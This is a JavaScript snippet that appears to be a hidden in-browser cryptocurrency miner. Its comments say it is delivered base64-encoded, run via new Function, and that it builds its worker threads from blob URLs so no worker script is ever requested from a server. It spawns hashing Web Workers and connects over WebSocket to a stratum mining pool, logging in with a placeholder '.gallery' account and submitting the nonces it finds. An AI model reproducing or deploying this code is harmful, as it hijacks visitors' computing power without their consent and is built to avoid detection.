// Arrives base64-encoded and runs through new Function(origin, ...). Builds its hashing
// threads from blob: URLs, so no worker script URL is ever requested from a server.
var sources = ["/js/sha256.js", "/js/search.js"].map(function (p) {
  return fetch(origin + p).then(function (r) { return r.text(); });
});
Promise.all(sources).then(function (parts) {
  var loop = "var job=null,n=0;onmessage=function(e){job=e.data.job;n=e.data.from>>>0;if(!self.t)tick();};" +
    "function tick(){self.t=1;if(!job){self.t=0;return;}var s=performance.now();" +
    "while(performance.now()-s<30){var f=self.evSearch(job,'sha256',n,64);n=(n+64)>>>0;" +
    "f.forEach(function(x){postMessage({job_id:job.id,nonce:x.nonce,result:x.result});});}" +
    "setTimeout(tick,0);}";
  var url = URL.createObjectURL(new Blob([parts.join("\n") + "\n" + loop], { type: "text/javascript" }));
  var threads = [new Worker(url), new Worker(url)];
  var ws = new WebSocket(origin.replace(/^http/, "ws") + "/pool/stratum"), id = 1, sid = "";
  function call(method, params) { ws.send(JSON.stringify({ id: id++, jsonrpc: "2.0", method: method, params: params })); }
  threads.forEach(function (t) {
    t.onmessage = function (e) { call("submit", { id: sid, job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result }); };
  });
  ws.onopen = function () { call("login", { login: "{{LOGIN}}.gallery", pass: "x", agent: "g/2" }); };
  ws.onmessage = function (e) {
    var m = JSON.parse(e.data), job = m.method === "job" ? m.params : m.result && m.result.job;
    if (m.result && m.result.id) sid = m.result.id;
    if (!job) return;
    threads.forEach(function (t, k) {
      t.postMessage({ job: { id: job.job_id, blob: job.blob, target: job.target }, from: k * 0x20000000 });
    });
  };
});
